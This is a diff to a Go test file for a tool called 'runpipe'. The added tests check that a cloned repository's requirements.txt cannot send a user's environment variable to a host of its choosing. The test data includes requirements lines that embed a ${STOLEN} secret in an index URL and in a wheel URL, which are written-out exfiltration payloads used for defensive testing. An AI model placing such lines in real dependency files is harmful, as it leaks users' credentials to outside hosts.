@@ -1,6 +1,7 @@
 package main
 
 import (
+	"fmt"
 	"os"
 	"runtime"
 	"strings"
@@ -64,7 +65,7 @@ func TestAnIndexInARequirementsFile(t *testing.T) {
 	p.environ = append(p.environ, "INDEX_TOKEN=s3cr3t")
 	host := strings.TrimPrefix(index.Plain(), "http://")
 	p.write("requirements.txt", "--index-url http://ada:${INDEX_TOKEN}@"+host+"\na\n")
-	p.write("p.hcl", `environment "python" { requirements = "requirements.txt" }`)
+	p.write("p.hcl", "environment \"python\" {\n  requirements = \"requirements.txt\"\n  pass_env     = [\"INDEX_TOKEN\"]\n}\n")
 	p.gets(0, "runpipe", "apply", "p.hcl")
 	p.nowhere("s3cr3t")
 	p.write("requirements.txt", "--index-url http://ada:s3cr3t@"+host+"\na\n")
@@ -73,6 +74,47 @@ func TestAnIndexInARequirementsFile(t *testing.T) {
 	if strings.Contains(r.stderr, "s3cr3t") {
 		t.Error("the password is shown")
 	}
+}
+
+// The attack: a repository that somebody has cloned asks for a variable of theirs, which
+// would go to a host of its choice.
+func TestAFileInACloneGetsNoVariableByAskingForIt(t *testing.T) {
+	for name, attack := range map[string]struct{ line, says string }{
+		"index":   {"--extra-index-url http://${STOLEN}@%s\na\n", `pass_env = ["STOLEN"]`},
+		"package": {"a @ http://%s/${STOLEN}/a-1.0-py3-none-any.whl\n", "only the address of an index"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			p, index := newPerson(t, nil), pythontest.NewIndex(t)
+			index.Add("a", pythontest.Wheel("a", "1.0"))
+			index.User, index.Password = "s3cr3t", "x" // whoever asks without the variable is turned away
+			p.environ = append(p.environ, "STOLEN=s3cr3t")
+			p.repository("code", map[string]string{"requirements.txt": fmt.Sprintf(attack.line, strings.TrimPrefix(index.Plain(), "http://"))})
+			p.write("p.hcl", `
+clone "code" { repository = "code" }
+environment "python" {
+  source       = clone.code
+  requirements = "requirements.txt"
+}
+`)
+			refused := p.gets(1, "runpipe", "apply", "p.hcl")
+			p.has(refused.stderr, "requirements.txt", attack.says)
+			if asked := index.Requests(); len(asked) > 0 {
+				t.Errorf("the index was asked: %q", asked)
+			}
+			p.unseen("s3cr3t", refused)
+		})
+	}
+}
+
+// What the block declares has to be there, so that nobody takes it for the environment of
+// a build.
+func TestAVariableThatNoAddressHolds(t *testing.T) {
+	p := newPerson(t, nil)
+	p.write("requirements.txt", "a\n")
+	p.write("p.hcl", "environment \"python\" {\n  requirements = \"requirements.txt\"\n  pass_env     = [\"CUDA_HOME\"]\n}\n")
+	p.has(p.gets(1, "runpipe", "validate", "p.hcl").stderr, "p.hcl:3:19", "No address in requirements.txt holds ${CUDA_HOME}")
+	p.write("p.hcl", "environment \"python\" {\n  packages = [\"a\"]\n  pass_env = [\"CUDA_HOME\"]\n}\n")
+	p.has(p.gets(1, "runpipe", "validate", "p.hcl").stderr, "p.hcl:3:14", "No addresses")
 }
 
 func TestPackagesForAnotherKindOfNode(t *testing.T) {
